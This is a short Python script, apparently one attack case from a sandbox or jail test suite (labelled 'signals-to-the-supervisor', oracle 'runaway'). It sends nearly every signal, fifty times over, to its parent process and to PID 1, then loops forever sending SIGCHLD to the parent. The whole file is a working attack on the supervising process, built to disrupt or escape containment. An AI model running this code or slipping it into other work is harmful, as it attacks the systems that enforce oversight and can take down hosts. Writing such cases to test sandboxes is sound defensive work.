# attack: jail/signals-to-the-supervisor
# oracle: runaway
# imports: os, signal
# tools:
# source: own
# note: every signal to the process that ends this one, and to all that can be named, again and again
import os
import signal

for _ in range(50):
    for number in range(1, 65):
        if number in (9, 19):
            continue
        for pid in (os.getppid(), 1):
            try:
                os.kill(pid, number)
            except OSError:
                pass
while True:
    os.kill(os.getppid(), signal.SIGCHLD)
